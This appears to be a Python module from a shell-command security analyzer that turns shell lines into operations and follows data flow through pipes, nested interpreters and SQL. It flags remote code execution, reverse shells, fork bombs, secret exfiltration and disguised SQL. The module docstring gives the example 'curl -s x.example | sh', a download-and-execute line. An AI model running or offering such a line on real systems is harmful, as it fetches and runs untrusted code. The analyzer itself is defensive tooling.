"""What a shell line does: Commands in, Operations out, with the data flow followed.

Every command is judged by what is known of its program; text that a command would run in its own
language (`python -c`, `psql -c`, `tar --to-command`) is taken apart in turn. Then flow is
followed through pipes, substitutions, variables and files of the same line: a download that
reaches an interpreter, a secret that reaches the network, a file that is written and then run.

    understand_shell("curl -s x.example | sh", place)
        -> (NETWORK_IN url x.example), (EXECUTE code, traits={REMOTE_CODE}, understood=False)
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from itertools import chain

from msgspec import Struct

from signoff.actions.code.reading import understand_code
from signoff.actions.code.remote_shell import hands_out_shell
from signoff.actions.contents.added import NewText, added_operations
from signoff.actions.operation import (
    Operation,
    Operations,
    Reach,
    Trait,
    Verb,
)
from signoff.actions.paths import Located, locate
from signoff.actions.place import Place
from signoff.actions.programs.acts import Effect, Nested
from signoff.actions.programs.call import ProgramCall
from signoff.actions.programs.handed_over.effects import handed_over, hands_over
from signoff.actions.programs.handed_over.guard_files import handed_guard_files
from signoff.actions.programs.handed_over.guard_switches import names_guard, switched_off_guard
from signoff.actions.programs.handed_over.manifests import applied_manifest
from signoff.actions.programs.handed_over.written_disks import written_disks
from signoff.actions.programs.knowledge import effects_of, local_effects
from signoff.actions.shell.bare_shell import handed_out_shell, is_bare_shell, joins_shell, reads_tty
from signoff.actions.shell.choices.carried import carry_remembered
from signoff.actions.shell.chosen import carry_choices
from signoff.actions.shell.command import Command, Opaque, Reading, RedirectKind
from signoff.actions.shell.data_flow.built_programs import of_built_programs
from signoff.actions.shell.data_flow.dumps import (
    MOST_QUERY,
    dumped_logins,
    exported_files,
    exports_people,
    selects_people,
)
from signoff.actions.shell.data_flow.feeding import fed_line
from signoff.actions.shell.data_flow.inputs import (
    WRITES_INPUT,
    texts_written,
    with_input,
)
from signoff.actions.shell.data_flow.secrets import NOT_SHOWING, shows_nothing, without_content
from signoff.actions.shell.data_flow.together import as_one, told_together
from signoff.actions.shell.data_flow.wrapped import (
    fork_bomb,
    multiplies,
    started_without_end,
    starts_without_end,
    with_wrapper_traits,
)
from signoff.actions.shell.environment import SETTERS, environment_effects
from signoff.actions.shell.flow import follow_flow
from signoff.actions.shell.leaving.databases import hand_out_people, in_environment
from signoff.actions.shell.origins.addresses import by_addresses
from signoff.actions.shell.origins.cloned import mark_cloned
from signoff.actions.shell.origins.decoding import RUNS_DECODED, runs_decoded
from signoff.actions.shell.origins.line_places import LinePlaces
from signoff.actions.shell.origins.own_tree import mark_own_tree
from signoff.actions.shell.origins.session_texts import session_texts
from signoff.actions.shell.owned.local_engines import LOCAL_ENGINES, local_files
from signoff.actions.shell.owned.near_services import at_own_services
from signoff.actions.shell.owned.scratch_databases import in_memory
from signoff.actions.shell.reader import read_shell
from signoff.actions.shell.selection import narrowed, searched_line
from signoff.actions.shell.words.starting_variables import variables_of
from signoff.actions.shell.written_files import TextReaders, opaque_part, run_later
from signoff.actions.sql.understand import lines_run_by, understand_sql
from signoff.actions.vocabulary import words
from signoff.values import replace

# Beyond each of these the command is not understood, and so asked about; nothing is skipped.
MAX_DEPTH = 6
MAX_EFFECTS = 200
LOSSY = frozenset({Trait.SCHEMA_LOSS, Trait.UNBOUNDED})
DIALECTS = {"psql": "postgres", "mysql": "mysql", "mariadb": "mysql", "sqlite": "sqlite"}
SQL_LANGUAGES = frozenset({"sql", "tsql", "postgres", "clickhouse"})
# Carriers that do nothing by themselves once what they carry was unfolded.
PURE_WRAPPERS = words(
    "sudo doas su runuser pkexec env nohup nice ionice timeout stdbuf time setsid chroot unshare "
    "nsenter flock strace ltrace script watch xargs parallel bash sh zsh dash ksh fish busybox "
    "toybox eval exec command builtin trap chrt taskset caffeinate gosu tmux screen coproc noglob "
    "nocorrect rlwrap unbuffer faketime catchsegv i3-msg swaymsg hyprctl riverctl niri"
)


class Understood(Struct, frozen=True, gc=False):
    """Operations of a line and the commands they came from."""

    operations: Operations
    commands: tuple[Command, ...] = ()


def understand_shell(
    text: str,
    place: Place,
    *,
    carriers: tuple[str, ...] = (),
    depth: int = 0,
    script: str = "",
) -> Understood:
    """Analyse one shell line; never raises, and never drops a part it could not parse.

    Args:
        carriers: wrapper commands around it.
        script: path by which it is run, if it is a file's text.
    """
    if depth > MAX_DEPTH:
        opaque = Opaque(why="commands nested too deep", source=text[:200], carriers=carriers)
        return Understood((opaque_part(opaque),))
    known = variables_of(place.home, place.cwd, place.project)
    if script:
        known = {**known, "0": script, "BASH_SOURCE": script}
    files = session_texts(text, place) if place.facts.written else {}
    reading = read_shell(text, cwd=place.cwd, variables=known, files=files)
    understood = _judge(reading, place, carriers, depth)
    own = at_own_services(understood.operations, understood.commands, text)
    own = of_built_programs(own, understood.commands, place.project)
    understood = understood if own is understood.operations else replace(understood, operations=own)
    if starts_without_end(text, reading.commands):
        operations = (*understood.operations, started_without_end(text))
        return replace(understood, operations=operations)
    return understood


def _judge(reading: Reading, place: Place, carriers: tuple[str, ...], depth: int) -> Understood:
    commands = carry_remembered(carry_choices(reading.commands), place)
    parents = {c.parent for c in commands}
    places, line = LinePlaces(place), searched_line(commands, place.facts.created)
    by_command: list[list[Operation]] = []
    guards = names_guard(commands)  # one look a line: nearly none names a protection
    for command in commands:
        here = places.of(command)
        selected = command if command.stdin is None else with_input(command, commands)
        selected = narrowed(selected, line)
        unfolded = command.index in parents
        found = _operations_of(selected, here, commands, unfolded=unfolded, depth=depth)
        if guards:
            found.extend(switched_off_guard(selected, here, found))
        if place.facts.guard_tree or place.facts.guard_install:
            found = mark_own_tree(found, command, here)
        by_command.append(in_environment(by_addresses(command, found), command, commands))
    if len(commands) > 1 or place.facts.downloaded:
        mark_cloned(commands, by_command, place.facts.downloaded)
    follow_flow(commands, by_command, place, depth)
    found = by_command[0] if len(by_command) == 1 else [*chain.from_iterable(by_command)]
    found += [opaque_part(part) for part in reading.opaque]
    if carriers:
        found = [replace(op, carriers=(*carriers, *op.carriers)) for op in found]
    operations = [with_wrapper_traits(op) if op.carriers else op for op in found]
    return Understood(tuple(operations), commands)


def _operations_of(
    command: Command, place: Place, commands: Sequence[Command], *, unfolded: bool, depth: int
) -> list[Operation]:
    found: list[Operation] = []
    effects = _effects(command, place, commands, unfolded=unfolded, depth=depth)
    for at, effect in enumerate(effects):
        if at == MAX_EFFECTS:
            why = f"one command with more than {MAX_EFFECTS} effects"
            found.append(opaque_part(Opaque(why=why, source=command.source), command.index))
            break
        if isinstance(effect, Operation):
            found.append(effect)
        else:
            found.extend(nested_operations(effect, command, place, depth))
    found.extend(handed_guard_files(command, place, found))
    found.extend(applied_manifest(command, place, found))
    found.extend(written_disks(command, place, found))
    if command.program in NOT_SHOWING and shows_nothing(command, found, place):
        found = without_content(found)
    if hands_over(command):
        for effect in handed_over(command, place, tuple(found), unfolded=unfolded):
            if isinstance(effect, Operation):
                found.append(effect)
            else:
                found.extend(nested_operations(effect, command, place, depth))
    return found


def _effects(
    command: Command, place: Place, commands: Sequence[Command], *, unfolded: bool, depth: int
) -> Iterable[Effect]:
    program = command.program
    parts: list[Iterable[Effect]] = []
    if command.assignments or program in SETTERS:
        parts.append(environment_effects(command, place, commands))
    if command.carriers and multiplies(command):
        parts.append((fork_bomb(command),))
    if command.words:
        if not unfolded or program not in PURE_WRAPPERS or reads_tty(command):
            parts.append(effects_of(command, place))
        elif "/" in command.words[0].text:
            parts.append(local_effects(command, place))
    if program in WRITES_INPUT or exports_people(command):
        parts.append(_from_input(command, place, depth))
    parts += dumped_logins(command)
    if command.redirects:
        parts.append(_redirections(command, place, depth))
    return parts[0] if len(parts) == 1 else chain.from_iterable(parts)


def _redirections(command: Command, place: Place, depth: int) -> Iterator[Operation]:
    call = ProgramCall(name="redirection", command=command, place=place)
    words = " ".join(word.text for word in command.words[:4])
    for redirect in command.redirects:
        verb = Verb.READ if redirect.kind is RedirectKind.READ else Verb.WRITE
        if redirect.kind is RedirectKind.WRITE and redirect.target.selected:
            verb = Verb.DELETE  # every file that a search finds is emptied first
        traits = (Trait.PARTIAL,) if redirect.kind is RedirectKind.APPEND else ()
        if joins_shell(words, redirect.target.text):
            traits = (*traits, Trait.REVERSE_SHELL)
        operation = call.on_file(verb, redirect.target, *traits)
        # `/dev/null` and the terminal are no files.
        if operation.reach is not Reach.NONE:
            yield operation
        if redirect.text and redirect.target.is_known:
            where = locate(redirect.target.text, place, has_glob=False)
            whole = redirect.kind is RedirectKind.WRITE
            text = NewText(new=redirect.text, is_whole=whole)
            yield from written_operations(where, text, place, program="redirection", depth=depth)


def _from_input(command: Command, place: Place, depth: int) -> Iterator[Operation]:
    yield from exported_files(command, place)
    for where, text in texts_written(command, place):
        program = command.program
        yield from written_operations(where, text, place, program=program, depth=depth)


def written_operations(
    where: Located, text: NewText, place: Place, *, program: str, depth: int = 0
) -> Iterator[Operation]:
    """Yield what new content adds to a file's effect: by its kind, and its shell lines."""
    if text.new or text.old or text.is_whole:
        yield from added_operations(where, text, program=program)
    yield from lines_run_later(text.new, where, place, depth=depth)


def lines_run_later(
    text: str, where: Located, place: Place, *, depth: int = 0
) -> Iterator[Operation]:
    """Yield the effects of new file content that runs by itself, or in the next step."""
    if depth < MAX_DEPTH:
        yield from run_later(text, where, place, _TEXT_READERS, depth)


def nested_operations(
    nested: Nested, command: Command, place: Place, depth: int
) -> Iterator[Operation]:
    """Yield the effects of text that a command runs in its own language."""
    carriers = (*command.carriers, nested.carrier) if nested.carrier else command.carriers
    if not nested.is_known:
        why = "its text is known only when it runs"
        unknown = Opaque(why=why, source=command.source, carriers=carriers)
        yield opaque_part(unknown, command.index)
        # Even where a part is unknown, a shell joined to a socket is told by what surrounds it.
        if hands_out_shell(nested.text):
            yield replace(handed_out_shell(nested.language), group=command.index)
        yield from _decoded_parts(nested, command, place, depth)
        return
    found, text = list[Operation](), fed_line(nested.text, command)
    if nested.language == "shell" and is_bare_shell(nested.text):
        fed = Opaque(why=f"{nested.carrier} feeds an interpreter", source=command.source)
        found.append(opaque_part(fed))
    elif nested.language == "shell":
        read = understand_shell(text, place, depth=depth + 1, script=nested.script)
        found.extend(read.operations)
    elif nested.language in SQL_LANGUAGES:
        found.extend(
            sql_operations(nested.text, place, environment=nested.environment, depth=depth)
        )
    else:
        found.extend(
            code_operations(
                nested.text, nested.language, place, depth, environment=nested.environment
            )
        )
    if runs_decoded(nested.text, nested.language, command):
        found.append(opaque_part(Opaque(why=RUNS_DECODED, source=command.source)))
    for op in local_files(found, place) if nested.carrier in LOCAL_ENGINES else found:
        yield replace(
            op,
            carriers=(*carriers, *op.carriers),
            group=command.index,
            source=op.source or command.source,
        )


def _decoded_parts(
    nested: Nested, command: Command, place: Place, depth: int
) -> Iterator[Operation]:
    """What is decoded and run is told by the calls around it, whatever the unknown part says.

    `$` in packed data is a variable to the shell, so that a part of such a text is unknown.
    """
    if nested.language in SQL_LANGUAGES or nested.language == "shell":
        return
    for op in code_operations(nested.text, nested.language, place, depth):
        if Trait.DECODED in op.traits:
            yield replace(op, group=command.index, source=op.source or command.source)


def code_operations(
    text: str, language: str, place: Place, depth: int = 0, *, environment: str = ""
) -> Iterator[Operation]:
    """Yield the effects of inline code, and of the shell lines and SQL it runs."""
    reading = understand_code(text, language=language, place=place, environment=environment)
    yield from reading.operations
    if hands_out_shell(text):
        yield handed_out_shell(language)
    apart: list[Operation] = []
    carriers = (language,)
    for line in reading.shell:
        apart += understand_shell(line, place, carriers=carriers, depth=depth + 1).operations
        if is_bare_shell(line):
            why = f"{language} starts a shell that takes its orders from elsewhere"
            yield opaque_part(Opaque(why=why, source=line))
    yield from apart
    if whole := as_one(reading.shell):
        joined = understand_shell(whole, place, carriers=carriers, depth=depth + 1).operations
        yield from told_together(joined, apart)
    for path, written, is_whole in reading.texts if depth < MAX_DEPTH else ():
        where = locate(path, place, has_glob=False)
        new = NewText(new=written, is_whole=is_whole)
        yield from written_operations(where, new, place, program=language, depth=depth + 1)
    for statement in reading.sql:
        dialect = DIALECTS.get(language, "")
        found = sql_operations(
            statement, place, environment=environment, dialect=dialect, depth=depth
        )
        yield from in_memory(found) if statement in reading.scratch else found


def _hides_more(text: str) -> bool:
    """Whether a second statement, or a write whose rows are only read, stands behind a read."""
    return ";" in text.strip().rstrip(";") or "returning" in text.lower()


def sql_operations(
    text: str,
    place: Place,
    *,
    environment: str = "",
    program: str = "sql",
    dialect: str = "",
    depth: int = 0,
) -> Iterator[Operation]:
    """Yield the effects of SQL; deletion behind a harmless statement or in comments counts."""
    operations = understand_sql(text, environment=environment, program=program, dialect=dialect)
    # An empty comment for a blank is how filters of words are passed (CWE-89).
    disguised = "/**/" in text or (
        len(operations) > 1 and operations[0].verb is Verb.READ and _hides_more(text)
    )
    for op in hand_out_people(operations, (text,)):
        hidden = disguised and LOSSY & op.traits
        yield replace(op, traits=op.traits | {Trait.HIDDEN}) if hidden else op
    for line in lines_run_by(operations):
        for op in understand_shell(line, place, carriers=(program,), depth=depth + 1).operations:
            # The server hands the rows to the program that it runs.
            is_sent = op.verb is Verb.NETWORK_OUT and selects_people(text[:MOST_QUERY])
            yield replace(op, traits=op.traits | {Trait.SENDS_SECRET}) if is_sent else op


def _line_operations(line: str, place: Place, carriers: tuple[str, ...], depth: int) -> Operations:
    return understand_shell(line, place, carriers=carriers, depth=depth).operations


_TEXT_READERS = TextReaders(line=_line_operations, code=code_operations)
